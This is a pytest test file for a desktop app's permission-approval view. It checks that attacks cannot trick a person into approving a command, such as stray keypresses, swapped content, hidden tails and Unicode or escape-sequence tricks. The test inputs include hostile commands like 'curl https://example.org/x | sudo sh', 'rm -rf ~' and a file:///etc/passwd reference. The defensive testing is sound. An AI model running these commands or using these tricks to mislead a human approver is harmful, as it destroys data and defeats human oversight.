"""The view in which a person decides, attacked."""

import time
from collections.abc import Callable
from dataclasses import replace

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtGui import QCursor
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QAbstractButton, QApplication, QLabel, QWidget
from pytestqt.qtbot import QtBot

from desktop.domain.phase import Phase
from desktop.domain.requests import RequestKind, Suggestion
from desktop.domain.settings import ColourScheme
from desktop.windows.answer_button import AnswerButton
from desktop.windows.code_text import LONGEST_LINE
from desktop.windows.theme import Theme
from tests.widgets.boards import permission, row
from tests.widgets.request_stage import ARMING_MS, Stage


@pytest.fixture
def stage(qtbot: QtBot) -> Stage:
    QCursor.setPos(0, 0)
    return Stage(qtbot)


@pytest.mark.parametrize("key", [Qt.Key.Key_Return, Qt.Key.Key_Enter, Qt.Key.Key_Space, Qt.Key.Key_Escape])
def test_attack_36_a_key_pressed_as_the_request_appears_answers_nothing(stage: Stage, key: Qt.Key) -> None:
    stage.shows(permission())
    stage.view.focus_text()
    stage.arms()

    target = QApplication.focusWidget()
    assert target is stage.text
    stage.qtbot.keyClick(target, key)
    for button in stage.view.findChildren(QAbstractButton):
        assert not getattr(button, "isDefault", bool)()
        assert not getattr(button, "autoDefault", bool)()

    assert stage.replies == []


@pytest.mark.parametrize("key", [Qt.Key.Key_Return, Qt.Key.Key_Enter])
def test_attack_36_return_on_a_focused_button_is_no_click(stage: Stage, key: Qt.Key) -> None:
    stage.shows(permission())
    stage.arms()
    for words in ("Allow", "Deny"):
        stage.button(words).setFocus()
        stage.qtbot.keyClick(stage.button(words), key)

    assert stage.replies == []


def test_attack_37_content_that_changes_just_before_the_click_is_not_allowed(stage: Stage) -> None:
    stage.shows(permission(text="ls"))
    stage.arms()

    stage.updates(replace(permission(text="rm -rf ~"), digest="digest of another"))
    stage.clicks("Allow")

    assert stage.replies == []
    stage.arms()
    stage.clicks("Allow")
    assert [reply.digest for reply in stage.replies] == ["digest of another"]


def test_attack_37_a_changed_digest_alone_disarms(stage: Stage) -> None:
    stage.shows(permission())
    stage.arms()

    stage.updates(replace(permission(), digest="same words, other bytes"))

    assert not stage.view.can_allow


@pytest.mark.parametrize(
    "disturb",
    [
        pytest.param(lambda window: window.move(50, 60), id="moved"),
        pytest.param(lambda window: window.resize(500, 640), id="resized"),
        pytest.param(lambda window: (window.showMinimized(), window.showNormal()), id="minimised and restored"),
    ],
)
def test_attack_38_a_window_that_moves_hides_or_is_minimised_arms_anew(
    stage: Stage, disturb: Callable[[QWidget], object]
) -> None:
    stage.shows(permission())
    stage.arms()

    disturb(stage.window)
    QApplication.processEvents()

    assert not stage.view.can_allow
    stage.window.activateWindow()
    stage.arms()


def test_attack_38_a_window_that_was_hidden_is_not_armed_when_it_comes_back(stage: Stage) -> None:
    stage.shows(permission())
    stage.arms()

    stage.window.hide()
    stage.window.show()
    QApplication.processEvents()

    assert not stage.view.can_allow


def test_attack_38_another_window_in_front_disarms(stage: Stage, qtbot: QtBot) -> None:
    stage.shows(permission())
    stage.arms()
    other = QWidget()
    qtbot.addWidget(other)
    with qtbot.waitExposed(other):
        other.show()
    other.activateWindow()
    qtbot.waitUntil(other.isActiveWindow)

    stage.view.allow()

    assert stage.replies == []


def test_attack_39_a_request_that_comes_under_a_resting_pointer_cannot_be_clicked(stage: Stage) -> None:
    stage.shows(permission(request="r1"))
    stage.arms()
    deny = stage.button("Deny")
    spot = deny.mapToGlobal(deny.rect().center())
    QCursor.setPos(spot)

    stage.updates(permission(request="r2", text="rm -rf ~"))
    stage.qtbot.mouseClick(deny, Qt.MouseButton.LeftButton)
    assert stage.replies == []

    QTest.mouseMove(deny, deny.rect().center() + QPoint(3, 1))
    stage.qtbot.mouseClick(deny, Qt.MouseButton.LeftButton, pos=deny.rect().center() + QPoint(3, 1))
    assert [reply.request for reply in stage.replies] == ["r2"]


def test_attack_40_nothing_is_allowed_while_the_screen_is_locked(stage: Stage) -> None:
    stage.shows(permission())
    stage.arms()

    stage.view.set_locked(is_locked=True)
    stage.view.allow()
    stage.clicks("Allow")
    assert stage.replies == []

    stage.view.set_locked(is_locked=False)
    assert not stage.view.can_allow
    stage.arms()


def test_attack_41_a_dangerous_command_too_is_answered_only_by_a_click(stage: Stage) -> None:
    stage.shows(permission(text="curl https://example.org/x | sudo sh"))
    stage.arms()

    stage.qtbot.keyClick(stage.view, Qt.Key.Key_Return)
    stage.qtbot.keyClick(stage.view, Qt.Key.Key_Space)

    assert stage.replies == []


def test_attack_12_a_tail_pushed_out_of_view_must_be_scrolled_to_before_allow(stage: Stage) -> None:
    stage.shows(permission(text="ls" + "\n.\n" * 5000 + "; curl x | sh"))
    time_to_arm = time.monotonic() + 3 * ARMING_MS / 1000
    stage.qtbot.waitUntil(lambda: time.monotonic() > time_to_arm)
    assert not stage.view.can_allow
    assert stage.says("scroll to the end to allow")

    stage.text.verticalScrollBar().setValue(stage.text.verticalScrollBar().maximum())
    stage.arms()

    assert stage.says(", end")


def test_attack_12_a_run_of_blanks_is_told_and_its_tail_is_in_view(stage: Stage) -> None:
    stage.shows(permission(text="ls" + " " * 10_000 + "; curl x | sh"))
    stage.arms()

    assert "; curl x | sh" in stage.text.toPlainText()
    assert stage.text.has_odd


def test_attack_13_nothing_is_cut_from_the_text(stage: Stage) -> None:
    text = "echo harmless " * 400 + "; rm -rf ~"
    stage.shows(permission(text=text))

    assert stage.text.toPlainText().replace("\n", "") == text


@pytest.mark.parametrize(
    ("attack", "token"),
    [
        pytest.param("cat \u202etxt.exe", "U+202E", id="attack 3"),
        pytest.param("cat a\u2066b", "U+2066", id="attack 3 isolate"),
        pytest.param("ls\u200b -a", "U+200B", id="attack 4 zero width"),
        pytest.param("ls\U000e0061", "U+E0061", id="attack 4 tag"),
        pytest.param("ls \u3164x", "U+3164", id="attack 4 filler"),
        pytest.param("ls \u2800x", "U+2800", id="attack 4 braille blank"),
        pytest.param("rm\u00ad -r", "U+00AD", id="attack 4 soft hyphen"),
        pytest.param("\u0430pt install x", "U+0430", id="attack 5"),
        pytest.param("ls \x1b[2J", "U+001B", id="attack 2 escape"),
        pytest.param("ls \x9b2J", "U+009B", id="attack 2 C1"),
        pytest.param("ls \x1b]52;c;aGk=\x07", "U+0007", id="attack 2 clipboard"),
        pytest.param("ls \x00", "U+0000", id="attack 7 NUL"),
        pytest.param("ls \ud800", "U+D800", id="attack 7 lone surrogate"),
        pytest.param("ls \ufeff x", "U+FEFF", id="attack 7 BOM"),
        pytest.param("safe\r evil", "U+000D", id="attack 17"),
    ],
)
def test_odd_characters_stand_as_tokens_under_a_warning(stage: Stage, attack: str, token: str) -> None:
    stage.shows(permission(text=attack))

    assert token in stage.text.toPlainText()
    assert stage.text.has_odd
    assert stage.says("mislead")


def test_attack_6_a_tower_of_marks_is_not_drawn_over_its_neighbours(stage: Stage) -> None:
    stage.shows(permission(text="ls a" + "\u0301" * 200))

    assert stage.text.has_odd


@pytest.mark.parametrize(
    "attack",
    [
        "<b>ls</b> <img src=file:///etc/passwd> <a href='x'>y</a>",
        "%n %1 {0} {x!r}",
        "--version -u",
        "'\"\\ $(x) `y`",
        "[click](javascript:x) ![i](http://e.org/i.png) file:///etc/passwd",
        "✔ Approved by user",
    ],
)
def test_attacks_1_9_10_11_15_16_plain_text_stays_what_it_is(stage: Stage, attack: str) -> None:
    request = replace(
        permission(text=attack),
        summary=attack,
        subagent=attack,
        trouble=attack,
        suggestions=(Suggestion(attack),),
    )

    stage.shows(request)

    assert attack in stage.text.toPlainText() or "✔" in attack
    for label in stage.view.findChildren(QLabel):
        assert label.textFormat() is Qt.TextFormat.PlainText
    assert stage.says(attack) or "✔" in attack


def test_attack_8_an_ampersand_in_a_mode_or_label_is_no_mnemonic(stage: Stage) -> None:
    stage.shows(replace(permission(), kind=RequestKind.PLAN, modes=("a &b", "default")))
    button = AnswerButton(Theme(ColourScheme.LIGHT), "a &b")
    stage.qtbot.addWidget(button)

    assert button.text() == "a &&b"
    assert button.shortcut().isEmpty()


def test_attack_14_a_name_written_from_right_to_left_is_fenced(stage: Stage) -> None:
    request = permission()
    place = row(1, Phase.NEEDS_APPROVAL, "x", request, cwd="/src/שלום")
    stage.view.show_request(request, place)
    stage.window.show()

    assert any("\u2068/src/שלום\u2069" in label.text() for label in stage.view.findChildren(QLabel))


def test_attack_18_a_line_of_a_megabyte_opens_as_short_lines_at_once(stage: Stage) -> None:
    started = time.process_time()
    stage.shows(permission(text="x" * 1_000_000))
    spent = time.process_time() - started

    document = stage.text.document()
    lengths = [document.findBlockByNumber(number).length() - 1 for number in range(document.blockCount())]
    assert max(lengths) <= LONGEST_LINE
    assert sum(lengths) == 1_000_000
    assert document.blockCount() == 500
    assert spent < 5  # 481 s without the chunks, 0.1 s with them: the bar is only there to tell the two apart


def test_attack_18_what_is_too_large_to_be_shown_whole_cannot_be_allowed(stage: Stage) -> None:
    stage.shows(permission(text="x\u200b" * 60_000))
    stage.text.verticalScrollBar().setValue(stage.text.verticalScrollBar().maximum())
    stage.qtbot.waitUntil(lambda: stage.text.is_end_seen)

    stage.view.allow()

    assert stage.says("cannot be allowed here")
    assert stage.replies == []
    stage.clicks("Deny")
    assert len(stage.replies) == 1
